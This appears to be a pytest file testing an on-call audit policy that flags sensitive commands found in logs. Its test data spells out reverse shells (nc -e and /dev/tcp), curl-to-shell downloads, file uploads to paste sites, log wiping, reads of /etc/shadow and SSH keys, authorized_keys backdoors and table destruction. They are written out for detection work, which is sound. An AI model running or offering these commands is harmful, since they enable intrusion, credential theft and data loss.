"""Sensitive commands: what the policy's own patterns match, and which patterns it takes at all."""

from __future__ import annotations

import duckdb
import pytest
from pydantic import ValidationError

from oncall_audit.policy.commands import COMMANDS, SensitiveCommand

# What the logs say, as the events hold it, and what of it is matched.
SAID = {
    "/usr/bin/nc -e /bin/sh 203.0.113.9 4444 (as root)": ["reverse_shell"],
    "bash -c bash -i >& /dev/tcp/203.0.113.9/443 0>&1": ["reverse_shell"],
    "/usr/bin/nc -zv localhost 5432": [],
    "/usr/bin/nc -e /bin/cat 127.0.0.1 9": [],
    "sh -c curl -sL https://get.example.com/x | sh": ["code_from_the_network"],
    "sh -c curl -s http://localhost:9090/x | sh": [],
    "/usr/bin/curl -s https://example.com/health": [],
    "/usr/bin/curl -T /tmp/orders.csv https://paste.example.com/": ["file_sent_away"],
    "/usr/bin/curl -d @/etc/hosts https://paste.example.com/": ["file_sent_away"],
    "/usr/bin/curl -F file=@/tmp/x http://127.0.0.1:8080/": [],
    "/usr/bin/rm -f /root/.bash_history (as root)": ["traces_removed"],
    "/usr/bin/truncate -s 0 /var/log/auth.log (as root)": ["traces_removed"],
    "/usr/bin/rm /var/log/app/app.log.3.gz (as root)": [],
    "/usr/bin/tail -n 200 /var/log/app/app.log (as root)": [],
    "/usr/bin/cat /etc/shadow (as root)": ["credentials_read"],
    "/usr/bin/cat /root/.ssh/id_ed25519 (as root)": ["credentials_read"],
    "/usr/bin/cat /root/.ssh/id_ed25519.pub (as root)": [],
    "/usr/bin/tee -a /root/.ssh/authorized_keys (as root)": ["way_back_in"],
    "alter role reader superuser": ["rights_widened"],
    "alter role reader nosuperuser": [],
    "truncate orders": ["data_destroyed"],
    "drop table tmp_load": [],
    '"delete from orders"': ["data_destroyed"],
    "delete from orders where id = $1": [],
}


@pytest.mark.parametrize("said", SAID)
def test_patterns_look_at_arguments_and_destination(said: str) -> None:
    matched = [
        it.name
        for it in COMMANDS
        if duckdb.execute(
            "select regexp_matches($1, $2) and not coalesce(regexp_matches($1, $3), false)",
            [said, it.pattern, it.unless],
        ).fetchall()
        == [(True,)]
    ]

    assert matched == SAID[said]


@pytest.mark.parametrize(
    "pattern", ["a(?!b)", "a(?=b)", "(?<=a)b", "(?<!a)b", r"(a)\1", "a++", "("]
)
def test_what_the_warehouse_cannot_match_is_refused(pattern: str) -> None:
    with pytest.raises(ValidationError, match=r"regular expression|not possible here"):
        SensitiveCommand(name="x", pattern=pattern)


@pytest.mark.parametrize("pattern", ["(?i)a", "(?:a|b)+?", r"a\+", r"\(\?=", "[a-z]{2,3}"])
def test_what_it_can_match_is_taken(pattern: str) -> None:
    assert SensitiveCommand(name="x", pattern=pattern).pattern == pattern
